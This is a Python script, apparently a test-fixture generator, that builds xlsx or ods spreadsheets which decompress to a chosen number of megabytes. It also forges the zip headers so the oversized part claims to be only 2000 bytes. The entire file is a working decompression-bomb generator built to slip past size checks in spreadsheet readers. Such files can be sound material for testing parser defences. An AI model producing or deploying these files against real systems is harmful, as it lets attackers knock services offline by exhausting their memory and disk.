"""Writes spreadsheets that unpack to far more than they say: bombs.py KIND MEGABYTES FILE."""

import io
import re
import struct
import sys
import zipfile

KIND, MEGABYTES, OUT = sys.argv[1], int(sys.argv[2]), sys.argv[3]
SAID = 2000

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
NAMES = "urn:oasis:names:tc:opendocument:xmlns"

PARTS = {
    "xlsx": {
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "_rels/.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="a"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{RELATIONS}"><Relationship Id="a" Type="{OFFICE}/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="b" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>quomble</t></is></c></row></sheetData></worksheet>',
    },
    "ods": {
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": f'<m:manifest xmlns:m="{NAMES}:manifest:1.0"/>',
    },
}
BIG = {
    "xlsx": ("xl/sharedStrings.xml", f'<sst xmlns="{MAIN}">', "<si><t>" + "a" * 56 + "</t></si>", "</sst>"),
    "ods": (
        "content.xml",
        f'<o:document-content xmlns:o="{NAMES}:office:1.0" xmlns:t="{NAMES}:table:1.0" xmlns:x="{NAMES}:text:1.0"><o:body><o:spreadsheet><t:table t:name="A">',
        '<t:table-row><t:table-cell o:value-type="string"><x:p>quomble</x:p></t:table-cell></t:table-row>',
        "</t:table></o:spreadsheet></o:body></o:document-content>",
    ),
}

name, head, unit, tail = BIG[KIND]
packed = io.BytesIO()
with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    for part, text in PARTS[KIND].items():
        archive.writestr(part, text)
    block = unit.encode() * 1000
    with archive.open(name, "w") as big:
        big.write(head.encode())
        for _ in range(MEGABYTES * 1024 * 1024 // len(block)):
            big.write(block)
        big.write(tail.encode())

made = bytearray(packed.getvalue())
for entry in re.finditer(b"PK\x01\x02", bytes(made)):
    at = entry.start()
    length = struct.unpack_from("<H", made, at + 28)[0]
    if made[at + 46 : at + 46 + length].decode() == name:
        local = struct.unpack_from("<I", made, at + 42)[0]
        struct.pack_into("<I", made, at + 24, SAID)
        struct.pack_into("<I", made, local + 22, SAID)
with open(OUT, "wb") as file:
    file.write(made)
